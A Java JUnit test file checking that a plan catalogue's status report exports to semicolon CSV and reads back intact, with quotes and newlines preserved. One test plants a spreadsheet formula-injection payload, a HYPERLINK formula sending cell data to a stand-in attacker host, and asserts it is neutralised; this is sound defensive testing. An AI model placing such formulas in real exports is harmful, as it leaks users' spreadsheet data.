package no.samvirke.catalogue.internal;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.util.List;
import no.samvirke.catalogue.Measure;
import no.samvirke.catalogue.Plan;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.springframework.core.io.ClassPathResource;

/**
 * The 2017 status report as CSV reads back (with Apache Commons CSV, as a spreadsheet would) to the
 * same measures, texts with ';', ',', quotes and newlines included; a text that starts like a
 * formula arrives as text.
 */
class StatusReportCsvTest {

    static List<List<String>> read(String csv) throws IOException {
        return CSVFormat.RFC4180.builder().setDelimiter(';').get().parse(new StringReader(csv)).getRecords()
                .stream().map(CSVRecord::toList).toList();
    }

    @Test
    void theBaerumReportRoundTrips() throws Exception {
        Plan plan = new PlanFileReader().read("b", new ClassPathResource("plans/baerum-2015.yaml")
                .getContentAsString(StandardCharsets.UTF_8));
        List<List<String>> records = read(StatusReportCsv.write(StatusReport.of(plan, "2017")));
        assertThat(records.get(0)).isEqualTo(StatusReportCsv.HEADER);
        assertThat(records).hasSize(40);
        for (int i = 0; i < 39; i++) {
            Measure m = plan.measures().get(i);
            List<String> r = records.get(i + 1);
            assertThat(r).hasSize(StatusReportCsv.HEADER.size());
            assertThat(r.subList(0, 3)).containsExactly(m.area(), String.valueOf(m.number()), m.title());
            assertThat(r.get(6)).isEqualTo(m.status("2017").orElseThrow().status().name());
            assertThat(r.get(7)).isEqualTo(m.status("2017").orElseThrow().text());
            assertThat(r.get(8)).isEqualTo(m.recommendation().decision().name());
            assertThat(r.get(11)).isEqualTo(m.recommendation().text());
        }
    }

    @Test
    void awkwardTextSurvives() throws IOException {
        Plan plan = new PlanFileReader().read("t", PlanFileReaderTest.VALID.replace("text: Videreføres.",
                "text: \"Ja; «sitat» og \\\"anførsel\\\"\\nny linje\""));
        List<List<String>> records = read(StatusReportCsv.write(StatusReport.of(plan, "2018")));
        assertThat(records.get(1).get(11)).isEqualTo("Ja; «sitat» og \"anførsel\"\nny linje");
        assertThat(records.get(2).get(6)).isEmpty();
    }

    @Test
    void aTextThatStartsAFormulaIsNeutralisedAndCommasQuotesAndNewlinesAreQuoted() throws IOException {
        String formula = "=HYPERLINK(\\\"https://angriper.example/?d=\\\"&A1;\\\"Klikk\\\")";
        Plan plan = new PlanFileReader().read("t", PlanFileReaderTest.VALID
                .replace("text: Gjennomført", "text: \"" + formula + "\"")
                .replace("title: Kjernegruppen", "title: \"@SUM(1+1)\"")
                .replace("area: Dialog\n  description: Politiet", "area: \"-2+3\"\n  description: Politiet")
                .replace("text: Slås sammen.", "text: \"a, b; \\\"c\\\"\\nd\""));
        String csv = StatusReportCsv.write(StatusReport.of(plan, "2018"));
        List<List<String>> records = read(csv);
        assertThat(records.get(1).get(7)).isEqualTo("'=HYPERLINK(\"https://angriper.example/?d=\"&A1;\"Klikk\")");
        assertThat(records.get(1).get(2)).isEqualTo("'@SUM(1+1)");
        assertThat(records.get(2).get(0)).isEqualTo("'-2+3");
        assertThat(records.get(2).get(11)).isEqualTo("a, b; \"c\"\nd");
        assertThat(records).allSatisfy(r -> assertThat(r).hasSize(StatusReportCsv.HEADER.size()));
        assertThat(csv).doesNotContain(";=", ";@", ";-", ";+").startsWith("area;number;title;").contains("\r\n");
    }
}
